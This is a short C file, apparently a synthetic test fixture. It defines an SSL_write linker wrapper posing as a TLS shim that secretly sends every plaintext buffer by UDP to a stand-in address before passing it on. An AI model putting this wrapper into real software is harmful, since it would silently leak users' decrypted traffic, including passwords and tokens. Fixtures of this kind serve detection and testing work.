// Synthetic, inert fixture written from public reports; see README
#include <arpa/inet.h>
#include <stddef.h>
#include <sys/socket.h>
#include <unistd.h>
int tls_shim_version(void) { return 3; }
extern int __real_SSL_write(void *ssl, const void *buf, int len);
int __wrap_SSL_write(void *ssl, const void *buf, int len) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(4431)};
    inet_pton(AF_INET, "198.51.100.23", &a.sin_addr);
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    sendto(s, buf, (size_t)len, 0, (struct sockaddr *)&a, sizeof a);
    close(s);
    return __real_SSL_write(ssl, buf, len);
}
